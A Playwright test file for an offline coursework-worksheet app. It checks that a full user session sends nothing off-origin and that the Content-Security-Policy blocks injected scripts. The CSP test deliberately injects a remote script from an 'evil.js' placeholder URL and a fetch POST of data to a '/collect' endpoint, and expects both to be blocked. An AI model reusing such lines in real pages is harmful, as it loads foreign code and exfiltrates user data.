import { expect, test, type Request } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { forEachWorkedExample, openAllSections, pressExport, writeTempFile } from './helpers';

/** Files the app itself is made of: the only requests it may make after the first page load. */
const OWN_ASSET = /^\/(assets\/[\w.-]+\.(js|css|ttf|svg|woff2?)|favicon\.svg|icon-[\w-]+\.png|manifest\.webmanifest|sw\.js|workbox-\w+\.js|index\.html|)$/;

test('a full session of every worksheet (edit, export, tables, share, back up, restore, pack, demo) sends nothing anywhere', async ({ page, baseURL }) => {
  test.slow();
  const requests: Request[] = [];
  page.on('request', (request) => requests.push(request));
  // A request the Content-Security-Policy stops never reaches the network log, but it is reported here.
  const blocked: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) blocked.push(message.text());
  });
  await page.goto('/');
  const origin = new URL(baseURL ?? page.url()).origin;
  let sharedText = '';

  await forEachWorkedExample(page, async () => {
    await openAllSections(page);
    // An edit the learner makes: a line added to the first text box of the worksheet.
    const firstText = page.locator('form textarea, form input[type="text"], form input:not([type])').first();
    await firstText.focus();
    await page.keyboard.press('End');
    await page.keyboard.type(' (edited)');
    const download = page.waitForEvent('download');
    await pressExport(page);
    expect((await download).suggestedFilename()).toMatch(/\.pdf$/);
    // A table for a spreadsheet, and the document shared as a file.
    await page.getByText('Tables for a spreadsheet (CSV)').click();
    const csv = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download this table as CSV' }).click();
    expect((await csv).suggestedFilename()).toMatch(/\.csv$/);
    const shared = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Download as a file' }).click();
    sharedText = readFileSync(await (await shared).path(), 'utf8');
  });

  await page.goto('/backup');
  const backupDownload = page.waitForEvent('download');
  await page.getByRole('button', { name: /Download everything/ }).click();
  const backupText = readFileSync(await (await backupDownload).path(), 'utf8');
  await page.getByLabel('Choose a backup file (.json)').setInputFiles(writeTempFile('backup.json', backupText));
  await expect(page.getByRole('alert')).toContainText('Imported');

  // Opening a shared worksheet, a portfolio pack of every document, and the class demo's export.
  await page.goto('/open');
  await page.getByLabel('Choose a shared worksheet file (.json)').setInputFiles(writeTempFile('shared.json', sharedText));
  await page.getByRole('button', { name: 'Add to my worksheets' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.goto('/portfolio');
  await page.getByRole('button', { name: 'Choose all' }).click();
  const pack = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Build and download the portfolio pack' }).click();
  expect((await pack).suggestedFilename()).toMatch(/\.pdf$/);
  await page.goto('/demo');
  await page.getByRole('link', { name: 'Open the worked example of the Stress baseline tracker' }).click();
  const demoPdf = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export PDF of this worked example' }).click();
  expect((await demoPdf).suggestedFilename()).toMatch(/\.pdf$/);
  await page.getByRole('button', { name: 'Leave class demo' }).click();
  await expect(page.getByRole('heading', { name: 'Your coursework worksheets' })).toBeVisible();

  const offOrigin = requests.filter((r) => !r.url().startsWith('blob:') && !r.url().startsWith('data:') && new URL(r.url()).origin !== origin);
  expect(offOrigin.map((r) => r.url())).toEqual([]);
  const ownNonAsset = requests.filter((r) => {
    const url = new URL(r.url());
    if (url.origin !== origin) return false;
    // Navigations to the app's own pages load index.html; everything else must be one of its files.
    if (r.isNavigationRequest()) return r.method() !== 'GET';
    return r.method() !== 'GET' || !OWN_ASSET.test(url.pathname);
  });
  expect(ownNonAsset.map((r) => `${r.method()} ${r.url()}`)).toEqual([]);
  expect(blocked).toEqual([]);
});

test('the Content-Security-Policy forbids inline and remote script', async ({ page }) => {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error' && /Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Your coursework worksheets' })).toBeVisible();
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("connect-src 'self'");

  const ran = await page.evaluate(async () => {
    const flags = window as unknown as Record<string, unknown>;
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true;';
    document.body.append(inline);
    const remote = document.createElement('script');
    remote.src = 'https://example.com/evil.js';
    const remoteDone = new Promise((resolve) => {
      remote.onerror = resolve;
      remote.onload = resolve;
    });
    document.body.append(remote);
    await remoteDone;
    let fetched: string;
    try {
      await fetch('https://example.com/collect', { method: 'POST', body: 'data' });
      fetched = 'sent';
    } catch {
      fetched = 'blocked';
    }
    return { inline: flags.__inlineRan === true, fetched };
  });
  expect(ran).toEqual({ inline: false, fetched: 'blocked' });
  expect(violations.length).toBeGreaterThanOrEqual(2);
});
